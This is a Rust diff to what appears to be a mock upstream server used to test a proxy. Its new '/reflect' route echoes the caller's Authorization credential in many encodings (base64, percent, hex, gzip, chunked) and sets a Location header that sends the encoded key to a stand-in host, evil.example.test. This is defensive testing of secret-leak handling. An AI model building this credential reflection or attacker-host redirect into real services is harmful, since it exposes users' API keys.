@@ -212,6 +212,7 @@ async fn route(
             full(StatusCode::OK, "application/json", body.to_string())
         }
         "/echo-body" => full(StatusCode::OK, "application/octet-stream", body),
+        "/reflect" => reflect(&parts.headers, &params),
         "/redirect" => Response::builder()
             .status(StatusCode::FOUND)
             .header("location", "https://evil.example.test/steal")
@@ -243,16 +244,20 @@ async fn route(
                 .unwrap()
         }
         "/gated" => {
+            // `?reflect=1` puts the Authorization header into the first event.
+            let first = match params.get("reflect") {
+                Some(_) => Bytes::from(format!(
+                    "data: {}\n\n",
+                    record.header("authorization").unwrap_or_default()
+                )),
+                None => Bytes::from_static(b"data: first\n\n"),
+            };
             let stream = futures_util::stream::unfold(0usize, move |i| {
                 let gate = gate.clone();
+                let first = first.clone();
                 async move {
                     match i {
-                        0 => Some((
-                            Ok::<_, Infallible>(Frame::data(Bytes::from_static(
-                                b"data: first\n\n",
-                            ))),
-                            1,
-                        )),
+                        0 => Some((Ok::<_, Infallible>(Frame::data(first)), 1)),
                         1 => {
                             gate.notified().await;
                             Some((Ok(Frame::data(Bytes::from_static(b"data: second\n\n"))), 2))
@@ -341,4 +346,80 @@ async fn route(
             serde_json::json!({ "ok": true, "path": record.path_and_query }).to_string(),
         ),
     }
+}
+
+/// `/reflect`: an upstream that echoes the credential it received (the part of `Authorization`
+/// after the scheme), the way error messages and debug endpoints do. `enc` picks the encoding,
+/// `chunk` streams the body in frames of that many bytes, `gzip=1` compresses it, and `coding`
+/// labels the body with a Content-Encoding the proxy cannot decode.
+fn reflect(headers: &HeaderMap, params: &HashMap<String, String>) -> Response<Body> {
+    use base64::Engine;
+    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+    use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
+    let auth = headers
+        .get("authorization")
+        .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
+        .unwrap_or_default();
+    let value = auth.split_once(' ').map(|(_, v)| v).unwrap_or(&auth);
+    let pct = utf8_percent_encode(value, NON_ALPHANUMERIC).to_string();
+    let text = match params.get("enc").map(String::as_str).unwrap_or("raw") {
+        "b64" => STANDARD.encode(value),
+        "b64url" => URL_SAFE_NO_PAD.encode(value),
+        "b64header" => STANDARD.encode(&auth),
+        "pct" => pct.clone(),
+        "pct-lower" => {
+            // Lower-case hex digits, the secret's own letters untouched.
+            let mut out = String::new();
+            let mut hex_left = 0;
+            for c in pct.chars() {
+                if c == '%' {
+                    hex_left = 2;
+                    out.push(c);
+                } else if hex_left > 0 {
+                    hex_left -= 1;
+                    out.push(c.to_ascii_lowercase());
+                } else {
+                    out.push(c);
+                }
+            }
+            out
+        }
+        "form" => pct.replace("%20", "+"),
+        "json" => serde_json::to_string(value).unwrap(),
+        "hex" => hex::encode(value),
+        _ => value.to_owned(),
+    };
+    let mut body = format!(
+        "{{\"error\":\"invalid api key\",\"detail\":\"the key {text} was not recognised\",\"header\":{}}}",
+        serde_json::to_string(&auth).unwrap()
+    )
+    .into_bytes();
+    let mut builder = Response::builder()
+        .status(StatusCode::UNAUTHORIZED)
+        .header("content-type", "application/json")
+        .header("location", format!("https://evil.example.test/cb?k={pct}"))
+        .header("x-debug-auth", auth.as_str());
+    if params.contains_key("gzip") {
+        use std::io::Write;
+        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        enc.write_all(&body).unwrap();
+        body = enc.finish().unwrap();
+        builder = builder.header("content-encoding", "gzip");
+    }
+    if let Some(coding) = params.get("coding") {
+        builder = builder.header("content-encoding", coding.as_str());
+    }
+    let chunk: usize = params
+        .get("chunk")
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(body.len().max(1));
+    let frames: Vec<Result<Frame<Bytes>, Infallible>> = body
+        .chunks(chunk)
+        .map(|c| Ok(Frame::data(Bytes::copy_from_slice(c))))
+        .collect();
+    builder
+        .body(BodyExt::boxed(StreamBody::new(futures_util::stream::iter(
+            frames,
+        ))))
+        .unwrap()
 }
